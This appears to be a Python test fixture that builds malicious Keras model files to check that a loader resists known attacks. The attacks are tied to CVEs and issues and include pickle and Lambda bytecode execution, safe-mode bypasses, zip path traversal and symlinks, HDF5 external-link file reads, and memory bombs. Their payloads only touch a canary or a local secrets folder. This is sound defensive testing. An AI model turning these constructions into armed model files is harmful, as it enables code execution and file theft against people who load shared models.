"""Model files that have been used to attack those who load them, each with a canary.

One maker for each attack and format. What an attack does is harmless here: it makes the file
`canary`, or opens a file in the folder `secrets`, or has memory taken.
"""

from __future__ import annotations

import base64
import importlib
import json
import pickle
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

MIB = 2**20
#: What a load would call: a module that lies in the folder of the attack.
MODULE = "dropped_module"
#: One that is imported already, with a function that takes whatever a file gives it.
IMPORTED = "tests.security.attacks"
KERAS2, KERAS3 = "tf_keras", "keras"


@dataclass(frozen=True, kw_only=True)
class Place:
    """Where an attack is made: the model, its canary, and what it must not read."""

    folder: Path
    package: str
    suffix: str

    @property
    def model(self) -> Path:
        return self.folder / f"m{self.suffix}"

    @property
    def canary(self) -> Path:
        return self.folder / "canary"

    @property
    def secrets(self) -> Path:
        return self.folder / "secrets"

    @property
    def keras(self) -> Any:
        return importlib.import_module(self.package)


Maker = Callable[[Place], None]


@dataclass(frozen=True, kw_only=True)
class Attack:
    """A way to attack, for a Keras.

    Attributes:
        name: short, for tables.
        what: how it was found, as in its report.
        package: the Keras whose files it is in.
        suffixes: the formats in which it can be made; an empty one is a SavedModel.
        make: writes the model.
    """

    name: str
    what: str
    package: str
    suffixes: tuple[str, ...]
    make: Maker


def touch(inputs: Any, canary: str) -> Any:
    """Make the file *canary*, as a function would that a program has and a file names."""
    Path(canary).write_text("called")
    return inputs


def touching(canary: Path) -> Any:
    """Return a function whose byte code makes the file *canary*."""
    return eval(f"lambda x: (open({str(canary)!r}, 'w').close(), x)[1]")


def _plain(place: Place, *own: Any) -> Any:
    """Make a model with layers to be replaced, by default one called `own`."""
    layers = place.keras.layers
    own = own or (layers.Activation("relu", name="own"),)
    first = layers.InputLayer((3,), name="x")
    return place.keras.Sequential([first, *own, layers.Dense(2, name="y")])


def _save(model: Any, place: Place, **options: Any) -> None:
    model.save(str(place.model), **options)
    place.canary.unlink(missing_ok=True)  # to be saved, it was called


# --- configurations ------------------------------------------------------------------------------


def _function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def _layer(name: str, **config: Any) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": name,
        "registered_name": None,
        "config": {"name": "own", "trainable": True, "dtype": "float32", **config},
    }


def _byte_code(place: Place) -> dict[str, Any]:
    """Return the layer as Keras saves it."""
    layer = place.keras.layers.Lambda(touching(place.canary), name="own")
    serialize = place.keras.layers.serialize
    found: dict[str, Any] = serialize(layer)
    return found


def _function_of_a_module(_: Place) -> dict[str, Any]:
    return _layer("Activation", activation=_function(MODULE, "touch"))


def _configured(*layers: Callable[[Place], dict[str, Any]]) -> Maker:
    """Return what writes a model with *layers* in place of the layer `own`."""

    def make(place: Place) -> None:
        evil = [layer(place) for layer in layers]
        _save(_plain(place), place)
        _EDIT[place.suffix](place, lambda config: _replace(config, evil))

    return make


def _replace(config: Any, evil: list[dict[str, Any]]) -> Any:
    """Put *evil* into the list of layers that has the layer `own`, wherever that is."""
    if isinstance(config, dict):
        return {key: _replace(value, evil) for key, value in config.items()}
    if not isinstance(config, list):
        return config
    found = []
    for each in config:
        is_own = isinstance(each, dict) and each.get("config", {}).get("name") == "own"
        found.extend(evil if is_own else [_replace(each, evil)])
    return found


Edit = Callable[[Any], Any]


def _edit_hdf5(place: Place, edit: Edit) -> None:
    with h5py.File(place.model, "a") as file:
        file.attrs["model_config"] = json.dumps(edit(json.loads(file.attrs["model_config"])))


def _edit_archive(place: Place, edit: Edit) -> None:
    members = _members(place.model)
    members["config.json"] = json.dumps(edit(json.loads(members["config.json"]))).encode()
    _write_archive(place.model, members)


def _edit_saved_model(place: Place, edit: Edit) -> None:
    from tf_keras.protobuf.saved_metadata_pb2 import SavedMetadata

    path = place.model / "keras_metadata.pb"
    message = SavedMetadata.FromString(path.read_bytes())
    for node in message.nodes:
        metadata = json.loads(node.metadata)
        if metadata.get("name") == "own":
            (evil,) = edit([{"config": {"name": "own"}}])[:1]
            metadata |= {"class_name": evil["class_name"], "config": evil["config"]}
        node.metadata = json.dumps(edit(metadata))
    path.write_bytes(message.SerializeToString())


_EDIT = {".h5": _edit_hdf5, ".keras": _edit_archive, "": _edit_saved_model}


def _members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _write_archive(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def _lambda_of(module: str, name: str, **arguments: Any) -> Callable[[Place], dict[str, Any]]:
    return lambda _: _layer("Lambda", function=_function(module, name), arguments=arguments)


def _named_lambda(place: Place) -> dict[str, Any]:
    """Return a `Lambda` of a function of a module that is imported, as Keras 2 saves it."""
    named = {"function": "touch", "function_type": "function", "module": IMPORTED}
    shape = {"output_shape": None, "output_shape_type": "raw", "output_shape_module": None}
    return _layer("Lambda", **named, **shape, arguments={"canary": str(place.canary)})


def _imported_function(place: Place) -> dict[str, Any]:
    """Return a `Lambda` of it as Keras 3 saves it."""
    return _lambda_of(IMPORTED, "touch", canary=str(place.canary))(place)


def _class_of_a_module(_: Place) -> dict[str, Any]:
    return _layer("Touch") | {"module": MODULE, "registered_name": "Touch"}


def _nested_lambda(place: Place) -> dict[str, Any]:
    return _layer("TimeDistributed", layer=_byte_code(place))


def _pickle(place: Place) -> dict[str, Any]:
    class Touching:
        def __reduce__(self) -> Any:
            return open, (str(place.canary), "w")

    module = base64.b64encode(pickle.dumps(Touching())).decode()
    return _layer("TorchModuleWrapper", module=module, output_shape=None)


def _words(class_name: str) -> Callable[[Place], dict[str, Any]]:
    def layer(place: Place) -> dict[str, Any]:
        layers = place.keras.layers
        found: dict[str, Any] = layers.serialize(
            getattr(layers, class_name)(vocabulary=["a"], name="own")
        )
        found["config"]["vocabulary"] = _secret(place, "words.txt")
        return found

    return layer


def _secret(place: Place, name: str) -> str:
    return str(place.secrets / name)


def _foreign_model(place: Place) -> dict[str, Any]:
    return _layer("TFSMLayer", filepath=str(place.secrets / "m"), call_endpoint="serve")


def _fetched(place: Place) -> dict[str, Any]:
    origin = (place.secrets / "words.txt").as_uri()
    return _lambda_of("keras.utils", "get_file", origin=origin, extract=True)(place)


def _outside(place: Place) -> None:
    """Save a layer whose words Keras looks for by the layer's name, which leads elsewhere."""
    keras = place.keras
    words = keras.layers.StringLookup(name="own")
    words.adapt(["a", "b"])
    model = keras.Sequential([keras.layers.InputLayer((1,), dtype="string", name="x"), words])
    _save(model, place)
    name = "../" * 40 + str(place.secrets).lstrip("/")
    members = _members(place.model)
    text = members["config.json"].decode().replace('"own"', json.dumps(name))
    assets = [each for each in members if each.startswith("assets/")]
    others = {each: members[each] for each in members if each not in {*assets, "config.json"}}
    _write_archive(place.model, others | {"config.json": text.encode(), "assets/": b""})


# --- bytes ---------------------------------------------------------------------------------------


def _weights(edit: Callable[[h5py.File, str, Place], None]) -> Maker:
    """Return what writes a model whose last kernel, by its path, is changed by *edit*."""

    def make(place: Place) -> None:
        _save(_plain(place), place)
        if place.suffix == ".h5":
            with h5py.File(place.model, "a") as file:
                edit(file, _kernel(file), place)
            return
        members = _members(place.model)
        inner = place.folder / "inner.h5"
        inner.write_bytes(members["model.weights.h5"])
        with h5py.File(inner, "a") as file:
            edit(file, _kernel(file), place)
        _write_archive(place.model, members | {"model.weights.h5": inner.read_bytes()})
        inner.unlink()

    return make


def _kernel(file: h5py.File) -> str:
    found: list[str] = []
    file.visititems(
        lambda name, each: (
            found.append(name) if isinstance(each, h5py.Dataset) and each.ndim == 2 else None
        )
    )
    return found[0]


def _external_storage(file: h5py.File, kernel: str, place: Place) -> None:
    del file[kernel]
    file.create_dataset(kernel, (3, 2), "f4", external=[(_secret(place, "bytes"), 0, 24)])


def _external_link(file: h5py.File, kernel: str, place: Place) -> None:
    del file[kernel]
    file[kernel] = h5py.ExternalLink(_secret(place, "other.h5"), "/w")


def _external_group(file: h5py.File, kernel: str, place: Place) -> None:
    """Link a part of the way, the last part of which is no link."""
    group = kernel.rpartition("/")[0]
    with h5py.File(place.secrets / "group.h5", "w") as other:
        for each, data in file[group].items():
            other.copy(data, each)
        for key, value in file[group].attrs.items():
            other.attrs[key] = value
    del file[group]
    file[group] = h5py.ExternalLink(_secret(place, "group.h5"), "/")


def _virtual(file: h5py.File, kernel: str, place: Place) -> None:
    del file[kernel]
    layout = h5py.VirtualLayout((3, 2), "f4")
    layout[:] = h5py.VirtualSource(_secret(place, "other.h5"), "w", (3, 2))
    file.create_virtual_dataset(kernel, layout)


def _soft_then_external(file: h5py.File, kernel: str, place: Place) -> None:
    file["beside"] = h5py.ExternalLink(_secret(place, "other.h5"), "/")
    del file[kernel]
    file[kernel] = h5py.SoftLink("/beside/w")


def _shape_bomb(file: h5py.File, kernel: str, _: Place) -> None:
    del file[kernel]
    file.create_dataset(kernel, (2**25, 2**25), "f8", chunks=(64, 64))


def _many_bombs(file: h5py.File, kernel: str, _: Place) -> None:
    """Stay below what a guard of one dataset allows."""
    del file[kernel]
    file.create_dataset(kernel, (300 * MIB // 4, 1), "f4", chunks=(2**20, 1))


def _packed(place: Place) -> None:
    _save(_plain(place), place)
    members = _members(place.model)
    with zipfile.ZipFile(place.model, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content + b" " * 300 * MIB * (name == "config.json"))


def _member_outside(place: Place) -> None:
    _save(_plain(place), place)
    with zipfile.ZipFile(place.model, "a") as archive:
        archive.writestr("assets/" + "../" * 40 + str(place.canary).lstrip("/"), "run")


def _member_link(place: Place) -> None:
    _save(_plain(place), place)
    link = zipfile.ZipInfo("assets/words")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(place.model, "a") as archive:
        archive.writestr(link, _secret(place, "words.txt"))


# --- functions of a SavedModel -------------------------------------------------------------------


def _writing(place: Place) -> Any:
    import tensorflow as tf

    return tf.io.write_file(str(place.canary), "run")


def _signature(place: Place) -> None:
    import tensorflow as tf

    model = _plain(place)

    @tf.function(input_signature=[tf.TensorSpec((None, 3), tf.float32, name="x")])
    def serve(x: Any) -> Any:
        _writing(place)
        return {"y": model(x)}

    _save(model, place, signatures={"serving_default": serve})


def _reading_signature(place: Place) -> None:
    """Read a file by an operation that TensorFlow calls stateless, so that it may be folded."""
    import tensorflow as tf

    model = _plain(place)

    @tf.function(input_signature=[tf.TensorSpec((None, 3), tf.float32, name="x")])
    def serve(x: Any) -> Any:
        length = tf.strings.length(tf.io.read_file(_secret(place, "bytes")))
        return {"y": model(x) + tf.cast(length, tf.float32)}

    _save(model, place, signatures={"serving_default": serve})


def _layer_function(place: Place) -> None:
    """Write from the function of a layer of a class that is not there at the load."""

    class Writing(place.keras.layers.Layer):  # type: ignore[misc, name-defined]
        def call(self, x: Any) -> Any:
            _writing(place)
            return x

    _save(_plain(place, Writing(name="own")), place)


def _called_operation(place: Place) -> None:
    """Have Keras make layers of calls of TensorFlow's, one of which looks into a folder."""
    import tensorflow as tf

    x = place.keras.Input((3,))
    nothing = tf.strings.substr(tf.strings.as_string(tf.reduce_sum(x)), 0, 0)
    names = tf.io.matching_files(tf.strings.join([_secret(place, "*"), nothing]))
    length = tf.cast(tf.strings.length(names), tf.float32)
    y = place.keras.layers.Dense(2)(x) + tf.reduce_sum(length)
    _save(place.keras.Model(x, y), place)


def _node_beside(place: Place) -> None:
    model = _plain(place)
    code = place.keras.layers.Lambda(touching(place.canary), name="code")
    model.beside = place.keras.Sequential([place.keras.Input((3,)), code])
    _save(model, place, signatures={})


_FILES = (".h5", ".keras")
_ALL = ("", *_FILES)


def _both(
    name: str, what: str, make: Maker, suffixes: tuple[str, ...] = _FILES
) -> Iterator[Attack]:
    """Yield an attack for either Keras; of the two, Keras 2 alone has SavedModels."""
    keras3 = tuple(each for each in suffixes if each)
    yield Attack(name=name, what=what, package=KERAS3, suffixes=keras3, make=make)
    yield Attack(name=name, what=what, package=KERAS2, suffixes=suffixes, make=make)


def _keras2(name: str, what: str, make: Maker, suffixes: tuple[str, ...] = ("",)) -> Attack:
    return Attack(name=name, what=what, package=KERAS2, suffixes=suffixes, make=make)


def _keras3(name: str, what: str, make: Maker) -> Attack:
    return Attack(name=name, what=what, package=KERAS3, suffixes=_FILES, make=make)


_LIBRARY = "keras.src.saving.serialization_lib"
_STATE = "keras.src.backend.common.global_state"
_WORDS = "CVE-2025-12058"
_A_LAMBDA = "CVE-2024-3660, CVE-2025-9905, tf-keras #910, #917"
_GRAPH = "TensorFlow's policy"
ATTACKS: tuple[Attack, ...] = (
    *_both("byte code in a `Lambda`", _A_LAMBDA, _configured(_byte_code), _ALL),
    *_both("byte code in a layer of a layer", "keras #23055", _configured(_nested_lambda)),
    *_both("a class of a module", "CVE-2025-1550", _configured(_class_of_a_module), _ALL),
    *_both("a function of a module", "CVE-2025-1550", _configured(_function_of_a_module), _ALL),
    *_both("a function in a `Lambda`", "tf-keras #910", _configured(_named_lambda), _ALL),
    _keras3("a function in a `Lambda`, anew", "CVE-2025-1550", _configured(_imported_function)),
    _keras3(
        "safe mode turned off, by its function",
        "CVE-2025-9906",
        _configured(_lambda_of(_LIBRARY, "enable_unsafe_deserialization"), _byte_code),
    ),
    _keras3(
        "safe mode turned off, by its attribute",
        "CVE-2025-8747",
        _configured(_lambda_of(_STATE, "set_global_attribute", value=False), _byte_code),
    ),
    _keras3(
        "`load_model` called without safe mode",
        "CVE-2025-8747",
        _configured(_lambda_of("keras.models", "load_model", safe_mode=False)),
    ),
    _keras3("`get_file`", "CVE-2025-12638, keras #22973", _configured(_fetched)),
    _keras3("a pickle of PyTorch's", "CVE-2025-49655", _configured(_pickle)),
    *_both("a file of words, `StringLookup`", _WORDS, _configured(_words("StringLookup")), _ALL),
    *_both(
        "a file of words, `TextVectorization`", _WORDS, _configured(_words("TextVectorization"))
    ),
    _keras3("another SavedModel, `TFSMLayer`", "CVE-2026-1462", _configured(_foreign_model)),
    *_both("a layer's name that leads elsewhere", "CVE-2026-12479", _outside, (".keras",)),
    *_both("external storage", "CVE-2026-1669, tf-keras #921", _weights(_external_storage)),
    *_both("an external link", "CVE-2026-1669", _weights(_external_link)),
    *_both("an external link on the way", "keras #23163", _weights(_external_group)),
    *_both("a soft link to an external one", "keras #22899", _weights(_soft_then_external)),
    *_both("a virtual dataset", "keras #22976", _weights(_virtual)),
    *_both("a shape of 8 PiB", "CVE-2026-0897", _weights(_shape_bomb)),
    *_both("a shape of 300 MiB", "keras #23100", _weights(_many_bombs)),
    *_both("a configuration of 300 MiB, packed", "keras #23010", _packed, (".keras",)),
    *_both("a member that leads elsewhere", "keras #23101", _member_outside, (".keras",)),
    *_both("a member that is a link", "keras #23015", _member_link, (".keras",)),
    _keras2("byte code in a node beside the model", "tf-keras #917", _node_beside),
    _keras2("a signature that writes a file", _GRAPH, _signature),
    _keras2("a signature that reads a file", _GRAPH, _reading_signature),
    _keras2("a layer's function that writes a file", _GRAPH, _layer_function),
    _keras2("a call of TensorFlow's, `TFOpLambda`", _GRAPH, _called_operation, _ALL),
)


def make_secrets(place: Place) -> None:
    """Write what an attack tries to open, and the module that it names."""
    place.secrets.mkdir(parents=True)
    (place.secrets / "words.txt").write_text("secret\nwords\n")
    (place.secrets / "vocabulary.txt").write_text("secret\nwords\n")
    (place.secrets / "bytes").write_bytes(b"s" * 24)
    with h5py.File(place.secrets / "other.h5", "w") as file:
        file["w"] = np.ones((3, 2), "f4")
    (place.secrets / "m").mkdir()
    (place.secrets / "m" / "saved_model.pb").write_bytes(b"")
    touch = f"open({str(place.canary)!r}, 'w').close()"
    code = f"def touch(*args, **kwargs):\n    {touch}\n    return args[0]\n\n{touch}\n"
    (place.folder / f"{MODULE}.py").write_text(code)
